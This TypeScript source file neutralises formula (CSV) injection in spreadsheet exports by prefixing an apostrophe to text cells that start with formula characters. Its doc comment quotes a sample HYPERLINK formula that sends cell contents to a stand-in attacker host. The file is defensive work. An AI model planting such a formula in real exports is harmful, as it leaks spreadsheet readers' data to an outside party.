/**
 * Formula injection (CSV injection): a spreadsheet that opens an exported file takes a cell
 * beginning with `=`, `+`, `-` or `@` as a formula, so a title such as
 * `=HYPERLINK("http://evil.example?"&A1,"Klikkaa")` would run in the reader's Excel, leak the
 * row's other cells or, through DDE, start a program. A leading tab or carriage return is
 * dropped by some importers, uncovering such a character behind it. Every text cell of every
 * export (CSV, and XLSX text cells too: a CSV saved from them, or a cell edited and confirmed,
 * becomes live again) goes through the one rule here.
 *
 * The rule is OWASP's recommended one: a leading apostrophe. Excel and LibreOffice then show the
 * text as typed instead of evaluating it, and a reader sees at once that something was escaped.
 * Numbers, dates and money are written as real numbers, never as text, and are left alone: a
 * budget cannot be negative, a `-2` in a text cell is text.
 */

/** The characters that make a cell a formula, or hide one behind them (tab, carriage return). */
const FORMULA_START = /^[=+\-@\t\r]/;

/** The text with a leading apostrophe when it begins like a formula; otherwise unchanged. */
export function neutraliseFormula(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}
